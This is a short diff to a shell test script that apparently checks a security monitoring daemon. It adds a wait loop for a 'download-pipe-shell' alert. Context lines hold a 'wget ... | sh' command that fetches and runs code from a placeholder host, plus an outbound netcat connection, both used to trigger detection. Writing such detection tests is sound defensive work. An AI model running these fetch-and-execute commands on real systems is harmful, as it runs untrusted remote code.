@@ -113,6 +113,9 @@ nc -w 2 192.0.2.1 80 </dev/null 2>/tmp/a.err; say "agent-connect rc=$? err=$(cat
 cp /bin/busybox /scratch/true
 /scratch/true; say "kernel-kill rc=$?"
 sh -c "sleep 3; wget -q -O- http://192.0.2.1/x | sh"; say "user-kill rc=$?"
+# The alert is written by the daemon's sink thread; give it the moment it
+# needs (slow under TCG) before the daemon is killed -9.
+i=0; until grep -q download-pipe-shell /alerts.jsonl 2>/dev/null || [ $i -gt 50 ]; do sleep 0.2; i=$((i+1)); done
 touch /phase1.done
 wait $J2; say "after-kill9 rc=$? err=$(cat /tmp/p2.err)"
 touch /phase2.done
